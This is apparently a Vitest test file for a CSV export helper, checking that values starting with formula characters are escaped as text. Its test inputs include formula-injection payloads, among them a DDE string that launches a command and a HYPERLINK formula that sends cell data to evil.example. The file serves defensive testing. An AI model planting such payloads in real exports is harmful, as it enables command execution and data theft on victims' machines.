import { expect, it } from 'vitest'
import { csvHead, csvLine } from './csv.ts'

/** How a spreadsheet that strips leading spaces and quotes reads the first cell of a line. */
const firstCell = (line: string): string => {
  const [, quoted, plain = ''] = /^(?:"((?:[^"]|"")*)"|([^,]*))/.exec(line) ?? []
  return quoted?.replaceAll('""', '"') ?? plain
}

it.each([
  '=1+1',
  '+1',
  '-1+cmd|x',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '\u00a0=1',
  '"=1',
  `'=1`,
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1)',
])('%j is text, as a value and as a heading', (text) => {
  for (const line of [csvLine({ a: text, b: 'x' }), csvHead({ [text]: '', b: '' })])
    expect(firstCell(line)).toBe(`'${text}`)
})

it.each(['Ana', 'a=b', 'A-1', '1 + 1', 'me@example.org', '', '’tis'])('%j stays as it is', (text) => {
  expect(firstCell(csvLine({ a: text, b: 'x' }))).toBe(text)
})

it('numbers stay numbers, and no text begins another cell or line', () => {
  expect(csvLine({ a: -5.5, b: 0, c: null })).toBe('-5.5,0,\r\n')
  expect(csvLine({ a: 'x",=1\r\n=2', b: { text: '=1' } })).toBe('"x"",=1\r\n=2","{""text"":""=1""}"\r\n')
})
